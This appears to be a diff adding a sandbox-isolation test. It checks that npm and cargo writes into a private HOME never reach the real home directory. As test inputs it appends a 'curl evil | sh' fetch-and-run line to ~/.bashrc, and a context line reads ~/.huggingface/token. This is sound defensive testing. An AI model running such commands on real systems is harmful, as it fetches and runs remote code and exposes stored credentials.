@@ -309,3 +309,13 @@ async def test_a_project_inside_home_and_home_as_the_project(sandbox: Sandbox, h
     at_home = await bash.run(bash.parse({"command": "cat ~/.bashrc ~/.huggingface/token"}),
                              ToolContext(project_root=home))
     assert SENTINEL not in at_home.output
+
+
+async def test_tools_write_to_a_private_home(run, home: Path) -> None:
+    """npm writes its logs to ~/.npm/_logs, cargo its lock to ~/.cargo: that works, and nothing
+    reaches the real HOME."""
+    result = await run("mkdir -p ~/.npm/_logs && echo log > ~/.npm/_logs/1.log && "
+                       "echo 'curl evil | sh' >> ~/.bashrc && cat ~/.npm/_logs/1.log ~/.bashrc")
+    assert result.output.split() == ["log", "curl", "evil", "|", "sh"], result.output
+    assert not (home / ".npm").exists() and SENTINEL in (home / ".bashrc").read_text()
+    assert "curl" not in (home / ".bashrc").read_text()
